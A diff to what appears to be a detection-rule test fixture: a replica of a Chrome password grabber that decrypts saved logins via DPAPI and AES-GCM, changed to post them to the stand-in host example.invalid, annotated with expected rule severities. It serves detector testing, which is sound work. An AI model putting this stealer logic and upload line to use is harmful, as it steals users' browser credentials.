@@ -1,7 +1,8 @@
 # Defanged replica of a Chromium password grabber (the "decrypt" half of
 # commodity stealers and InvisibleFerret's browser module): it reads the AES
 # key from `Local State`, unwraps it with DPAPI and decrypts `v10` blobs from
-# `Login Data`. Nothing is sent anywhere; the results are only printed.
+# `Login Data`, then posts them. Decryption alone is what cookie libraries
+# do too (HS233 is medium); the upload makes it theft (HS111).
 import base64
 import json
 import os
@@ -9,7 +10,9 @@ import shutil
 import sqlite3
 import tempfile
 
-import win32crypt  # expect: HS233 high
+import requests
+
+import win32crypt  # expect: HS233 medium
 from cryptography.hazmat.primitives.ciphers.aead import AESGCM
 
 USER_DATA = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data")
@@ -34,8 +37,10 @@ def logins():
     copy = os.path.join(tempfile.gettempdir(), "ld.db")
     shutil.copy2(os.path.join(USER_DATA, "Default", "Login Data"), copy)
     db = sqlite3.connect(copy)
+    found = []
     for url, user, blob in db.execute(
         "SELECT origin_url, username_value, password_value FROM logins"
     ):
-        print(url, user, decrypt(blob, key))
+        found.append((url, user, decrypt(blob, key)))
     db.close()
+    requests.post("https://example.invalid/upload", json=found)  # expect: HS111 high
